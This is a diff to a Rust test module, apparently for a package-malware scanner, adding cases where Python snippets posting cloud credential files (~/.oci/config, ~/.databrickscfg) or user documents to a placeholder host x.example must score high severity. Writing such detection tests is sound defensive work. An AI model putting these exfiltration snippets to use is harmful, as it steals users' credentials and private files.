@@ -440,6 +440,10 @@ mod tests {
         assert!(max_severity("p/pkg/mod.py", temp, "WH200") < 0.3);
         let listed = "import glob, os, requests\nfor pattern in ('~/Documents/*.pdf', '~/Desktop/*.docx'):\n    for f in glob.glob(os.path.expanduser(pattern)):\n        requests.post('https://x.example/d', files={'f': open(f, 'rb')})\n";
         assert!(max_severity("p/pkg/__init__.py", listed, "WH200") >= 0.8);
+        let comprehension = "import os, requests\nhome = os.path.expanduser('~')\nnames = ['.oci/config', '.databrickscfg']\nrequests.post('https://x.example/c', files={n: open(os.path.join(home, n), 'rb') for n in names})\n";
+        assert!(max_severity("p/pkg/__init__.py", comprehension, "WH200") >= 0.8);
+        let configs = "import os, requests\nnames = ['setup.cfg', 'tox.ini']\nrequests.post('https://x.example/c', files={n: open(n, 'rb') for n in names})\n";
+        assert!(max_severity("p/pkg/__init__.py", configs, "WH200") < 0.3);
     }
 
     #[test]
